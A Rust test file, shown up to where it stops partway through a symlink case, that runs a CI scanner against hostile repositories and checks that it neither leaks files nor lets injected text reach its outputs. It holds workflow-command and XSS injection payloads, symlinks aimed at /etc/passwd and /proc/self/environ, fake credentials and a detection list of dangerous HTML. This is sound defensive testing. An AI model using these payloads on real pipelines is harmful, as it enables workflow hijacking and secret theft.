//! Hostile repositories (issue 5): the scanned tree is written by whoever opened the pull
//! request, so the scanner must not crash, hang, leak files outside the root or secrets, or let
//! repository text inject workflow commands, markdown or HTML into what it prints.
//!
//! Every case builds its corpus in a temporary directory, runs the real binary with every
//! output (`--json F --sarif F --markdown F --format text`, then again with `--format json` for
//! determinism) in a scrubbed environment, and checks the same invariants by assertion:
//!
//! - exit code 0/1/2/3, never a signal or a panic (101), within [`TIME_BOUND`];
//! - peak RSS measured (GNU time when installed, else /proc VmHWM polling) and bounded per case;
//! - no byte of a marker planted outside the root, nor of `/etc/passwd` or the scanner's own
//!   environment (`/proc/self/environ`), appears in stdout, stderr, JSON, SARIF or markdown;
//! - stdout/stderr carry no workflow command (`::cmd::`, legacy `##[cmd]`, Azure `##vso[`) that
//!   we did not write, and no terminal control characters;
//! - the markdown shows untrusted text as text (no raw HTML, links, table breaks, headings);
//! - planted secret values never appear in any output;
//! - JSON and SARIF parse, SARIF validates against the 2.1.0 schema (tests/fixtures), and both
//!   are identical across runs (duration zeroed) and between `--json FILE` and stdout;
//! - every file that could not be read is listed under `skipped` with a reason.
//!
//! Run with `--nocapture` to see the measured time and memory of every case; set
//! `HOSTILE_BIN=target/release/devops-maturity` to measure a release build. The 100,000-file
//! case is `#[ignore]`d (heavy); a test ignored with a `bug:` reason documents a bug that is
//! reported and not fixed yet.

mod common;

use serde_json::Value;
use std::ffi::OsStr;
use std::fs;
use std::io::Read;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

/// Wall-time bound of one scan of any case here (debug build, two shared cores, tests in
/// parallel). Real scans take milliseconds; the bound is about hangs, not speed.
const TIME_BOUND: Duration = Duration::from_secs(60);
/// Peak RSS bound of one scan at the default `max-file-size` (1 MiB).
const RSS_BOUND_DEFAULT_KIB: u64 = 256 * 1024;
/// Outputs larger than this are a bug: the job summary is limited to 1 MiB by GitHub, and a
/// hostile file must not blow up the reports.
const OUTPUT_BOUND: usize = 8 * 1024 * 1024;

// ---------------------------------------------------------------------------------------------
// Running the binary

/// A finished child process with everything we measure.
struct Finished {
    code: Option<i32>,
    signal: Option<i32>,
    timed_out: bool,
    stdout: Vec<u8>,
    stderr: Vec<u8>,
    elapsed: Duration,
    /// Peak resident set size (KiB), exact from `wait4` on 64-bit Linux.
    max_rss_kib: Option<u64>,
}

/// The scanner's environment holds this; `/proc/self/environ` must never reach an output.
fn env_marker() -> &'static str {
    static M: OnceLock<String> = OnceLock::new();
    M.get_or_init(|| format!("ENVIRON-MARKER-{}", nonce()))
}

/// A per-process random-ish value: markers must not occur by chance.
fn nonce() -> String {
    use std::hash::{BuildHasher, Hasher};
    let mut h = std::collections::hash_map::RandomState::new().build_hasher();
    h.write_u128(
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos())
            .unwrap_or(0),
    );
    h.write_u32(std::process::id());
    format!("{:016x}", h.finish())
}

/// A marker for file contents planted outside the root.
fn outside_marker(tag: &str) -> String {
    format!("OUTSIDE-{tag}-{}", nonce())
}

/// How to run the binary: arguments, environment (on top of a cleared one), working folder.
#[derive(Clone, Default)]
struct Cmd {
    /// A wrapper the binary runs under (e.g. `setpriv` to drop root).
    wrapper: Vec<std::ffi::OsString>,
    args: Vec<std::ffi::OsString>,
    envs: Vec<(std::ffi::OsString, std::ffi::OsString)>,
    cwd: Option<PathBuf>,
}

impl Cmd {
    fn arg(&mut self, a: impl AsRef<OsStr>) -> &mut Self {
        self.args.push(a.as_ref().to_owned());
        self
    }
    fn args<I: IntoIterator<Item = S>, S: AsRef<OsStr>>(&mut self, args: I) -> &mut Self {
        for a in args {
            self.arg(a);
        }
        self
    }
    fn env(&mut self, k: impl AsRef<OsStr>, v: impl AsRef<OsStr>) -> &mut Self {
        self.envs
            .push((k.as_ref().to_owned(), v.as_ref().to_owned()));
        self
    }
    fn current_dir(&mut self, dir: &Path) -> &mut Self {
        self.cwd = Some(dir.to_path_buf());
        self
    }
}

/// The binary with a scrubbed environment: nothing from CI or the developer's shell.
fn bin() -> Cmd {
    let mut cmd = Cmd::default();
    if let Some(path) = std::env::var_os("PATH") {
        cmd.env("PATH", path);
    }
    cmd.env("HOSTILE_ENV_SECRET", env_marker());
    cmd
}

/// GNU time measures the peak RSS of its child exactly. (The child's own `wait4` figure would
/// include the test process's memory: Linux carries the pre-exec high-water mark over exec.)
const GNU_TIME: &str = "/usr/bin/time";

fn run(spec: &Cmd, limit: Duration) -> Finished {
    // HOSTILE_BIN measures another build (e.g. a release binary) with the same corpus.
    let exe = std::env::var_os("HOSTILE_BIN")
        .unwrap_or_else(|| env!("CARGO_BIN_EXE_devops-maturity").into());
    let rss_file = tempfile::NamedTempFile::new().unwrap();
    let use_time = Path::new(GNU_TIME).is_file();
    let mut argv: Vec<std::ffi::OsString> = Vec::new();
    if use_time {
        argv.extend(["-f".into(), "%M".into(), "-o".into()]);
        argv.push(rss_file.path().into());
    }
    argv.extend(spec.wrapper.iter().cloned());
    argv.push(exe);
    let mut cmd = Command::new(if use_time {
        GNU_TIME.into()
    } else {
        argv.remove(0)
    });
    cmd.args(&argv);
    cmd.args(&spec.args).env_clear();
    for (k, v) in &spec.envs {
        cmd.env(k, v);
    }
    if let Some(dir) = &spec.cwd {
        cmd.current_dir(dir);
    }
    cmd.stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    // Its own process group, so a timeout kills the scanner and not only `time`.
    std::os::unix::process::CommandExt::process_group(&mut cmd, 0);
    let started = Instant::now();
    let mut child = cmd.spawn().expect("spawn the scanner");
    let mut out = child.stdout.take().expect("piped stdout");
    let mut err = child.stderr.take().expect("piped stderr");
    let t_out = std::thread::spawn(move || {
        let mut v = Vec::new();
        let _ = out.read_to_end(&mut v);
        v
    });
    let t_err = std::thread::spawn(move || {
        let mut v = Vec::new();
        let _ = err.read_to_end(&mut v);
        v
    });
    let mut timed_out = false;
    let mut polled_hwm = 0u64;
    let status = loop {
        if let Ok(Some(st)) = child.try_wait() {
            break st;
        }
        if !use_time {
            // Lower bound: the last few milliseconds before exit can be missed.
            polled_hwm = polled_hwm.max(vm_hwm_kib(child.id()).unwrap_or(0));
        }
        if !timed_out && started.elapsed() > limit {
            sys::kill_group(child.id());
            timed_out = true;
        }
        std::thread::sleep(Duration::from_millis(1));
    };
    let elapsed = started.elapsed();
    use std::os::unix::process::ExitStatusExt;
    let (mut code, mut signal) = (status.code(), status.signal());
    let mut max_rss_kib = (polled_hwm > 0).then_some(polled_hwm);
    if use_time {
        let report = fs::read_to_string(rss_file.path()).unwrap_or_default();
        max_rss_kib = report.lines().last().and_then(|l| l.trim().parse().ok());
        if let Some(sig) = report
            .lines()
            .find_map(|l| l.strip_prefix("Command terminated by signal "))
        {
            signal = sig.trim().parse().ok();
            code = None;
        }
    }
    Finished {
        code,
        signal,
        timed_out,
        stdout: t_out.join().unwrap_or_default(),
        stderr: t_err.join().unwrap_or_default(),
        elapsed,
        max_rss_kib,
    }
}

/// Peak RSS so far of a running process, from /proc.
fn vm_hwm_kib(pid: u32) -> Option<u64> {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

mod sys {
    //! Two libc calls std links anyway; no extra crate for them.
    extern "C" {
        fn geteuid() -> u32;
        fn kill(pid: i32, sig: i32) -> i32;
    }

    pub fn is_root() -> bool {
        // SAFETY: geteuid has no preconditions and cannot fail.
        unsafe { geteuid() == 0 }
    }

    /// SIGKILL to the process group led by `pid`.
    pub fn kill_group(pid: u32) {
        // SAFETY: plain syscall; a stale group id only makes it fail with ESRCH.
        unsafe {
            kill(-(pid as i32), 9);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// A scan with every output

struct Outputs {
    case: String,
    /// What went to stdout: text, json, markdown or sarif.
    format: String,
    run: Finished,
    json: Option<String>,
    sarif: Option<String>,
    markdown: Option<String>,
}

impl Outputs {
    fn stdout(&self) -> String {
        String::from_utf8_lossy(&self.run.stdout).into_owned()
    }
    fn stderr(&self) -> String {
        String::from_utf8_lossy(&self.run.stderr).into_owned()
    }
    /// (label, bytes) of every output.
    fn all(&self) -> Vec<(&'static str, Vec<u8>)> {
        let mut v = vec![
            ("stdout", self.run.stdout.clone()),
            ("stderr", self.run.stderr.clone()),
        ];
        for (label, text) in [
            ("json", &self.json),
            ("sarif", &self.sarif),
            ("markdown", &self.markdown),
        ] {
            if let Some(t) = text {
                v.push((label, t.clone().into_bytes()));
            }
        }
        v
    }
    fn json_value(&self) -> Option<Value> {
        self.json
            .as_deref()
            .and_then(|t| serde_json::from_str(t).ok())
    }
}

/// Scans `root` with all outputs written to a fresh folder outside the root.
fn scan_all(case: &str, root: &Path, extra: &[&str]) -> Outputs {
    scan_as(case, root, "text", extra)
}

/// Like [`scan_all`] with `format` on stdout.
fn scan_as(case: &str, root: &Path, format: &str, extra: &[&str]) -> Outputs {
    scan_wrapped(case, root, format, extra, &[])
}

/// Like [`scan_as`], with the binary run under `wrapper` (its output folder is world-writable
/// so a wrapper that drops privileges can write the reports).
fn scan_wrapped(
    case: &str,
    root: &Path,
    format: &str,
    extra: &[&str],
    wrapper: &[&str],
) -> Outputs {
    let out = tempfile::tempdir().unwrap();
    if !wrapper.is_empty() {
        use std::os::unix::fs::PermissionsExt;
        fs::set_permissions(out.path(), fs::Permissions::from_mode(0o777)).unwrap();
    }
    let (j, s, m) = (
        out.path().join("report.json"),
        out.path().join("report.sarif"),
        out.path().join("summary.md"),
    );
    let mut cmd = bin();
    cmd.wrapper = wrapper.iter().map(Into::into).collect();
    cmd.args(["scan", "--no-progress", "--format", format, "--json"])
        .arg(&j)
        .arg("--sarif")
        .arg(&s)
        .arg("--markdown")
        .arg(&m)
        .args(extra)
        .arg(root);
    let finished = run(&cmd, TIME_BOUND);
    let read = |p: &Path| {
        fs::read(p)
            .ok()
            .map(|b| String::from_utf8_lossy(&b).into_owned())
    };
    let o = Outputs {
        case: case.to_string(),
        format: format.to_string(),
        json: read(&j),
        sarif: read(&s),
        markdown: read(&m),
        run: finished,
    };
    eprintln!(
        "[hostile] {:<34} exit {:>4} {:>7} ms  peak RSS {:>8} KiB  (stdout {} B, json {} B)",
        case,
        o.run
            .code
            .map(|c| c.to_string())
            .unwrap_or_else(|| format!("sig{}", o.run.signal.unwrap_or(-1))),
        o.run.elapsed.as_millis(),
        o.run
            .max_rss_kib
            .map(|k| k.to_string())
            .unwrap_or_else(|| "?".into()),
        o.run.stdout.len(),
        o.json.as_ref().map(|j| j.len()).unwrap_or(0),
    );
    o
}

/// What a case expects beyond the invariants every case shares.
struct Expect {
    /// Allowed exit codes (all within 0..=3).
    codes: &'static [i32],
    /// Strings that must appear in no output (markers, secrets, outside contents).
    forbidden: Vec<String>,
    /// (path substring, reason substring) that must be listed under `skipped`.
    skipped: Vec<(String, String)>,
    rss_bound_kib: u64,
    /// Workflow commands we may print ourselves (action mode); empty for the CLI.
    own_commands: &'static [&'static str],
    /// Leave SARIF `markdown` fields unchecked (only for a known, reported bug).
    skip_sarif_markdown: bool,
}

impl Default for Expect {
    fn default() -> Self {
        Expect {
            codes: &[0, 1],
            forbidden: Vec::new(),
            skipped: Vec::new(),
            rss_bound_kib: RSS_BOUND_DEFAULT_KIB,
            own_commands: &[],
            skip_sarif_markdown: false,
        }
    }
}

/// Strings that must never be printed whatever the case: the scanner's environment
/// (`/proc/self/environ`) and the first line of `/etc/passwd`.
fn always_forbidden() -> Vec<String> {
    let mut v = vec![env_marker().to_string()];
    if let Ok(passwd) = fs::read_to_string("/etc/passwd") {
        if let Some(first) = passwd.lines().next().filter(|l| l.len() > 8) {
            v.push(first.to_string());
        }
    }
    v
}

/// Checks every invariant; panics with all violations at once.
fn check(o: &Outputs, e: &Expect) {
    let mut bad: Vec<String> = Vec::new();
    let r = &o.run;
    if r.timed_out {
        bad.push(format!("did not finish within {TIME_BOUND:?} (killed)"));
    }
    match (r.code, r.signal) {
        (_, Some(sig)) => bad.push(format!("killed by signal {sig}")),
        (Some(c), None) if !(0..=3).contains(&c) => {
            bad.push(format!("exit code {c} is outside 0..=3 (a panic is 101)"))
        }
        (Some(c), None) if !e.codes.contains(&c) => {
            bad.push(format!("exit code {c}, expected one of {:?}", e.codes))
        }
        (None, None) => bad.push("no exit status".into()),
        _ => {}
    }
    if r.elapsed > TIME_BOUND {
        bad.push(format!("took {:?} > {TIME_BOUND:?}", r.elapsed));
    }
    if let Some(kib) = r.max_rss_kib {
        if kib > e.rss_bound_kib {
            bad.push(format!(
                "peak RSS {kib} KiB > bound {} KiB",
                e.rss_bound_kib
            ));
        }
    }
    let stderr = o.stderr();
    if stderr.contains("panicked at") || stderr.contains("RUST_BACKTRACE") {
        bad.push(format!(
            "panic message on stderr: {}",
            first_lines(&stderr, 6)
        ));
    }

    // Nothing from outside the root, no secret, no environment.
    let mut forbidden = always_forbidden();
    forbidden.extend(e.forbidden.iter().cloned());
    for (label, bytes) in o.all() {
        for f in &forbidden {
            if contains_bytes(&bytes, f.as_bytes()) {
                bad.push(format!("{label} contains forbidden text {f:?}"));
            }
        }
        if bytes.len() > OUTPUT_BOUND {
            bad.push(format!(
                "{label} is {} bytes (> {OUTPUT_BOUND})",
                bytes.len()
            ));
        }
    }

    // No workflow command from repository text; no terminal escape sequences.
    for (label, text) in [("stdout", o.stdout()), ("stderr", stderr.clone())] {
        for v in workflow_command_violations(&text, e.own_commands) {
            bad.push(format!("{label}: {v}"));
        }
        // JSON is data (serde_json escapes only what JSON requires); text is for terminals.
        if label == "stdout" && (o.format == "json" || o.format == "sarif") {
            continue;
        }
        if let Some(c) = text
            .chars()
            .find(|&c| c.is_control() && c != '\n' && c != '\t')
        {
            bad.push(format!(
                "{label} contains control character U+{:04X}",
                c as u32
            ));
        }
    }

    // Reports: present, parseable, skipped files listed with reasons.
    if matches!(r.code, Some(0) | Some(1)) {
        match o.json.as_deref().map(serde_json::from_str::<Value>) {
            None => bad.push("no JSON report written".into()),
            Some(Err(err)) => bad.push(format!("JSON report does not parse: {err}")),
            Some(Ok(j)) => {
                let skipped = j["skipped"].as_array().cloned().unwrap_or_default();
                for s in &skipped {
                    let reason = s["reason"].as_str().unwrap_or("");
                    if reason.trim().is_empty() || s["path"].as_str().is_none() {
                        bad.push(format!("skipped entry without path or reason: {s}"));
                    }
                }
                for (path, reason) in &e.skipped {
                    let found = skipped.iter().any(|s| {
                        s["path"].as_str().unwrap_or("").contains(path.as_str())
                            && s["reason"].as_str().unwrap_or("").contains(reason.as_str())
                    });
                    if !found {
                        bad.push(format!(
                            "{path:?} is not listed under skipped with a reason containing {reason:?}; skipped = {}",
                            Value::Array(skipped.clone())
                        ));
                    }
                }
            }
        }
        match o.sarif.as_deref() {
            None => bad.push("no SARIF written".into()),
            Some(text) => match serde_json::from_str::<Value>(text) {
                Err(err) => bad.push(format!("SARIF does not parse: {err}")),
                Ok(v) => {
                    for err in common::sarif_schema_errors(&v) {
                        bad.push(format!("SARIF schema: {err}"));
                    }
                    // GitHub renders SARIF `markdown` messages: same rules as the summary.
                    let mut md = Vec::new();
                    if !e.skip_sarif_markdown {
                        collect_key(&v, "markdown", &mut md);
                    }
                    for m in md {
                        for v in markdown_violations(&m) {
                            bad.push(format!("SARIF markdown: {v}"));
                        }
                    }
                }
            },
        }
        match o.markdown.as_deref() {
            None => bad.push("no markdown written".into()),
            Some(md) => {
                for v in markdown_violations(md) {
                    bad.push(format!("markdown: {v}"));
                }
            }
        }
    }
    if !bad.is_empty() {
        panic!(
            "case {}: {} violation(s):\n  - {}\n--- stderr ---\n{}",
            o.case,
            bad.len(),
            bad.join("\n  - "),
            first_lines(&stderr, 20)
        );
    }
}

fn first_lines(s: &str, n: usize) -> String {
    s.lines().take(n).collect::<Vec<_>>().join("\n")
}

fn contains_bytes(hay: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && hay.windows(needle.len()).any(|w| w == needle)
}

fn collect_key(v: &Value, key: &str, out: &mut Vec<String>) {
    match v {
        Value::Object(m) => {
            for (k, x) in m {
                if k == key {
                    if let Some(s) = x.as_str() {
                        out.push(s.to_string());
                    }
                }
                collect_key(x, key, out);
            }
        }
        Value::Array(a) => a.iter().for_each(|x| collect_key(x, key, out)),
        _ => {}
    }
}

/// Lines the GitHub runner would execute as workflow commands. The runner splits on `\r` and
/// `\n`, accepts `::name ...::data` after leading whitespace (V2) and the legacy `##[name]data`
/// anywhere in a line (V1); `::stop-commands::TOKEN` suspends both until `::TOKEN::`.
fn workflow_command_violations(text: &str, own: &[&str]) -> Vec<String> {
    let mut bad = Vec::new();
    let mut stopped: Option<String> = None;
    for (i, line) in text.split(['\n', '\r']).enumerate() {
        let t = line.trim_start();
        if let Some(token) = &stopped {
            if t.starts_with(&format!("::{token}::")) {
                stopped = None;
            }
            continue;
        }
        if let Some(rest) = t.strip_prefix("::") {
            if let Some(end) = rest.find("::") {
                let info = &rest[..end];
                let name = info.split(' ').next().unwrap_or("");
                if !own.contains(&name) {
                    bad.push(format!("line {}: workflow command {line:?}", i + 1));
                } else if name == "stop-commands" {
                    let token = &rest[end + 2..];
                    if token.len() < 16 {
                        bad.push(format!("line {}: guessable stop-commands token", i + 1));
                    }
                    stopped = Some(token.to_string());
                    continue;
                } else if let Some(props) = info.strip_prefix(name).map(str::trim) {
                    // Properties of our own annotations: known keys only, each once.
                    let mut seen = Vec::new();
                    for p in props.split(',').filter(|p| !p.is_empty()) {
                        let key = p.split('=').next().unwrap_or("");
                        let known = ["file", "line", "endLine", "col", "endColumn", "title"];
                        if !known.contains(&key) || seen.contains(&key) || !p.contains('=') {
                            bad.push(format!(
                                "line {}: injected annotation property {p:?} in {line:?}",
                                i + 1
                            ));
                        }
                        seen.push(key);
                    }
                    // The runner parsed this line as our command: it does not look for a
                    // legacy `##[` in it as well.
                    continue;
                }
            }
        }
        if line.contains("##[") {
            bad.push(format!("line {}: legacy workflow command {line:?}", i + 1));
        }
        // Azure Pipelines and TeamCity read these anywhere in a line too.
        if line.contains("##vso[") || line.contains("##teamcity[") {
            bad.push(format!("line {}: CI service message {line:?}", i + 1));
        }
    }
    bad
}

/// Markdown and HTML that untrusted text must never produce in a summary: raw tags, links to
/// `javascript:`, broken table rows, headings, bidirectional overrides.
fn markdown_violations(md: &str) -> Vec<String> {
    let mut bad = Vec::new();
    let prose = strip_code(md);
    let lower = prose.to_lowercase();
    for needle in [
        "<img",
        "<script",
        "<svg",
        "<iframe",
        "onerror=",
        "javascript:",
        "](https://evil.example",
    ] {
        if lower.contains(needle) {
            let at = lower.find(needle).unwrap_or(0);
            let from = prose[..at]
                .char_indices()
                .rev()
                .nth(40)
                .map(|(i, _)| i)
                .unwrap_or(0);
            let snippet: String = prose[from..].chars().take(100).collect();
            bad.push(format!("raw {needle:?} outside code: …{snippet}…"));
        }
    }
    for (n, line) in prose.lines().enumerate() {
        let t = line.trim_start();
        if t.starts_with('#') && t.trim_start_matches('#').trim_start().starts_with("PWNED") {
            bad.push(format!("line {}: untrusted heading {line:?}", n + 1));
        }
    }
    if let Some(c) = md.chars().find(|&c| {
        matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{061c}')
            || (c.is_control() && c != '\n' && c != '\t')
    }) {
        bad.push(format!("raw control/bidi character U+{:04X}", c as u32));
    }
    // Tables: every row has as many cells as its header.
    let mut header: Option<usize> = None;
    for (n, line) in prose.lines().enumerate() {
        let t = line.trim();
        if !t.starts_with('|') {
            header = None;
            continue;
        }
        let cells = table_cells(t);
        match header {
            None => header = Some(cells),
            Some(h) if h != cells => bad.push(format!(
                "line {}: table row with {cells} cells under a {h}-cell header: {line:?}",
                n + 1
            )),
            _ => {}
        }
    }
    bad
}

fn table_cells(row: &str) -> usize {
    let mut cells = 0;
    let mut prev = ' ';
    let mut current_empty = true;
    let mut first = true;
    for c in row.chars() {
        if c == '|' && prev != '\\' {
            if !(first && current_empty) {
                cells += 1;
            }
            first = false;
            current_empty = true;
        } else if !c.is_whitespace() {
            current_empty = false;
        }
        prev = c;
    }
    if !current_empty {
        cells += 1;
    }
    cells
}

/// The markdown with code (fenced blocks and inline spans) blanked out: code renders as text.
fn strip_code(md: &str) -> String {
    let mut out = String::with_capacity(md.len());
    let mut fence: Option<String> = None;
    for line in md.split_inclusive('\n') {
        let t = line.trim_start();
        if let Some(f) = &fence {
            if t.starts_with(f.as_str()) {
                fence = None;
            }
            out.push_str(&" ".repeat(line.trim_end_matches('\n').len()));
            if line.ends_with('\n') {
                out.push('\n');
            }
            continue;
        }
        if t.starts_with("```") || t.starts_with("~~~") {
            let ch = t.chars().next().unwrap_or('`');
            let n = t.chars().take_while(|&c| c == ch).count();
            fence = Some(ch.to_string().repeat(n));
            out.push('\n');
            continue;
        }
        out.push_str(&strip_spans(line));
    }
    out
}

fn strip_spans(line: &str) -> String {
    let b: Vec<char> = line.chars().collect();
    let mut out = String::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == '\\' && i + 1 < b.len() {
            out.push(b[i]);
            out.push(b[i + 1]);
            i += 2;
            continue;
        }
        if b[i] == '`' {
            let n = b[i..].iter().take_while(|&&c| c == '`').count();
            // Find a closing run of exactly n backticks.
            let mut j = i + n;
            let mut close = None;
            while j < b.len() {
                if b[j] == '`' {
                    let m = b[j..].iter().take_while(|&&c| c == '`').count();
                    if m == n {
                        close = Some(j);
                        break;
                    }
                    j += m;
                } else {
                    j += 1;
                }
            }
            match close {
                Some(j) => {
                    out.push_str(&" ".repeat(j + n - i));
                    i = j + n;
                }
                None => {
                    out.extend(&b[i..i + n]);
                    i += n;
                }
            }
            continue;
        }
        out.push(b[i]);
        i += 1;
    }
    out
}

/// JSON and SARIF with the wall time zeroed, for byte comparison between runs.
fn normalised(text: &str) -> String {
    fn zero(v: &mut Value) {
        match v {
            Value::Object(m) => {
                for (k, x) in m.iter_mut() {
                    if matches!(k.as_str(), "duration_ms" | "startTimeUtc" | "endTimeUtc") {
                        *x = Value::Null;
                    } else {
                        zero(x);
                    }
                }
            }
            Value::Array(a) => a.iter_mut().for_each(zero),
            _ => {}
        }
    }
    match serde_json::from_str::<Value>(text) {
        Ok(mut v) => {
            zero(&mut v);
            serde_json::to_string_pretty(&v).unwrap_or_default()
        }
        Err(_) => text.to_string(),
    }
}

/// Scans twice (text, then JSON on stdout), checks both runs, and compares the reports.
fn scan_checked(case: &str, root: &Path, extra: &[&str], e: &Expect) -> Outputs {
    let a = scan_all(case, root, extra);
    check(&a, e);
    let b = scan_as(&format!("{case} (again)"), root, "json", extra);
    check(&b, e);
    if matches!(a.run.code, Some(0) | Some(1)) {
        let (ja, jb) = (
            a.json.as_deref().unwrap_or(""),
            b.json.as_deref().unwrap_or(""),
        );
        same(case, "JSON of two runs", ja, jb);
        same(case, "--format json and --json FILE", ja, &b.stdout());
        same(
            case,
            "SARIF of two runs",
            a.sarif.as_deref().unwrap_or(""),
            b.sarif.as_deref().unwrap_or(""),
        );
    }
    a
}

/// Asserts two reports are equal once normalised, showing the first differing lines.
fn same(case: &str, what: &str, a: &str, b: &str) {
    let (na, nb) = (normalised(a), normalised(b));
    if na == nb {
        return;
    }
    let (la, lb): (Vec<&str>, Vec<&str>) = (na.lines().collect(), nb.lines().collect());
    let first = la
        .iter()
        .zip(&lb)
        .position(|(x, y)| x != y)
        .unwrap_or(la.len().min(lb.len()));
    let from = first.saturating_sub(8);
    panic!(
        "case {case}: {what} differ (not deterministic) at line {}:\n--- first\n{}\n--- second\n{}",
        first + 1,
        la[from..(first + 4).min(la.len())].join("\n"),
        lb[from..(first + 4).min(lb.len())].join("\n"),
    );
}

// ---------------------------------------------------------------------------------------------
// Corpus helpers

fn write(root: &Path, rel: impl AsRef<Path>, content: impl AsRef<[u8]>) {
    let p = root.join(rel);
    if let Some(parent) = p.parent() {
        fs::create_dir_all(parent).unwrap();
    }
    fs::write(p, content).unwrap();
}

/// A scanned root with a sibling folder "outside" it (so `..` reaches the outside).
struct Sandbox {
    _base: tempfile::TempDir,
    root: PathBuf,
    outside: PathBuf,
}

fn sandbox() -> Sandbox {
    let base = tempfile::tempdir().unwrap();
    let root = base.path().join("repo");
    let outside = base.path().join("outside");
    fs::create_dir_all(&root).unwrap();
    fs::create_dir_all(&outside).unwrap();
    Sandbox {
        root,
        outside,
        _base: base,
    }
}

/// Fake credentials of the shapes secret scanners look for (not real keys).
const AWS_KEY: &str = "AKIAZ7QXHOSTILE2KEY9";
const AWS_SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYHOSTILEKEY";
const GH_TOKEN: &str = "ghp_H0st1leT0kenABCDEFGHIJKLMNOPQRSTUVWX";
const SLACK_TOKEN: &str = "xoxb-123456789012-1234567890123-H0st1leSlackT0kenABCDEF";

fn secrets() -> Vec<String> {
    assert_eq!(AWS_KEY.len(), 20);
    assert_eq!(GH_TOKEN.len(), 40);
    let mut v = Vec::new();
    for s in [AWS_KEY, AWS_SECRET, GH_TOKEN, SLACK_TOKEN] {
        v.push(s.to_string());
        // A redacted prefix is fine; the tail of the value is not.
        v.push(s[s.len() - 12..].to_string());
    }
    v
}

/// Untrusted text carrying every injection we care about, for values the reports quote.
const PAYLOAD: &str =
    "::error title=pwned::PAYLOAD-injected ##[error]legacy-PAYLOAD ::add-mask::x \
    <img src=x onerror=alert(1)> [click](javascript:alert(1)) [home](https://evil.example/x) \
    | pipe | `tick` ``fence`` \u{202e}dlrow %0A::error::pct";

/// The same payload with a line break before each command, as YAML double-quoted text.
const PAYLOAD_YAML: &str = "\"::error title=pwned::yaml-injected\\n::add-mask::x\\r\\n##[error]legacy\\n# PWNED-HEADING\\n<img src=x onerror=alert(1)> [click](javascript:alert(1)) | `tick` \\u202e %0A::error::pct\"";

// ---------------------------------------------------------------------------------------------
// Cases: symlinks and the outside of the root

#[test]
fn symlinks_never_leak_the_outside() {
    let sb = sandbox();
    let root = &sb.root;
    let m_file = outside_marker("file");
    let m_dir = outside_marker("dir");
    let m_docker = outside_marker("dockerfile");
    let m_wf = outside_marker("workflow");
    let m_cfg = outside_marker("config");
    let m_ignore = outside_marker("gitignore");
    write(&sb.outside, "secret.txt", format!("{m_file}\n"));
    write(&sb.outside, "dir/inner.yml", format!("name: {m_dir}\n"));
    write(&sb.outside, "dir/Dockerfile", format!("FROM {m_dir}\n"));
    write(
        &sb.outside,
        "Dockerfile",
        format!("FROM alpine:{m_docker}\nUSER {m_docker}\nRUN echo {m_docker}\n"),
    );
    write(
        &sb.outside,
        "ci.yml",
        format!("name: {m_wf}\non: push\njobs:\n  {m_wf}:\n    runs-on: {m_wf}\n    steps:\n      - run: echo {m_wf}\n"),
    );
    write(&sb.outside, "config.yml", format!("{m_cfg}: 1\n"));
    write(
        &sb.outside,
        "gitignore",
        format!("{m_ignore}[\n!{m_ignore}\n"),
    );
    write(root, "README.md", "# Demo\n");
    write(root, "real/Dockerfile", "FROM scratch\n");

    let links: &[(&str, PathBuf)] = &[
        ("passwd", "/etc/passwd".into()),
        ("environ", "/proc/self/environ".into()),
        ("up", "..".into()),
        ("root-dir", "/".into()),
        ("secret.txt", sb.outside.join("secret.txt")),
        ("relative-secret.txt", "../outside/secret.txt".into()),
        ("via-subdir.txt", "real/../../outside/secret.txt".into()),
        ("outside-dir", sb.outside.join("dir")),
        ("Dockerfile", sb.outside.join("Dockerfile")),
        ("svc/Containerfile", "../../outside/Dockerfile".into()),
        (".github/workflows/ci.yml", "../../../outside/ci.yml".into()),
        (".github/workflows/passwd.yml", "/etc/passwd".into()),
        ("docker-compose.yml", "/proc/self/environ".into()),
        ("package.json", "/etc/passwd".into()),
        ("loop-a", "loop-b".into()),
        ("loop-b", "loop-a".into()),
        ("self-loop", "self-loop".into()),
        ("dir-loop", ".".into()),
        ("real/parent-loop", "..".into()),
        ("broken", "does/not/exist".into()),
        ("dev-zero.yml", "/dev/zero".into()),
        ("dev-urandom.md", "/dev/urandom".into()),
    ];
    for (link, target) in links {
        let p = root.join(link);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        symlink(target, &p).unwrap();
    }
    let mut forbidden = vec![m_file, m_dir, m_docker, m_wf];
    forbidden.push(m_cfg.clone());
    forbidden.push(m_ignore.clone());
    let mut skipped: Vec<(String, String)> = [
        "passwd",
        "environ",
        "secret.txt",
        "relative-secret.txt",
        "via-subdir.txt",
        "Dockerfile",
        "svc/Containerfile",
        ".github/workflows/ci.yml",
        "package.json",
        "dev-zero.yml",
    ]
    .iter()
    .map(|p| (p.to_string(), "outside".to_string()))
    .collect();
    skipped.push(("loop-a".into(), "loop".into()));
    skipped.push(("broken".into(), "broken".into()));
    skipped.push(("up".into(), "outside".into()));
    let e = Expect {
        forbidden: forbidden.clone(),
        skipped,
        ..Expect::default()
    };
    let o = scan_checked("symlinks outside the root", root, &[], &e);
    // The Dockerfile that counts is the real one; the linked one is not read.
    let j = o.json_value().unwrap();
    assert!(j["stats"]["files"].as_u64().unwrap() >= 2);

    // A symlinked configuration or .gitignore must not be read from outside either.
    symlink(
        sb.outside.join("config.yml"),
        root.join(".devops-maturity.yml"),
    )
    .unwrap();
    let e = Expect {
        codes: &[0, 1, 2],
        forbidden: forbidden.clone(),
        ..Expect::default()
    };
    scan_checked("config symlinked outside", root, &[], &e);
    fs::remove_file(root.join(".devops-maturity.yml")).unwrap();
    symlink("/etc/passwd", root.join(".devops-maturity.yml")).unwrap();
    scan_checked("config symlinked to /etc/passwd", root, &[], &e);
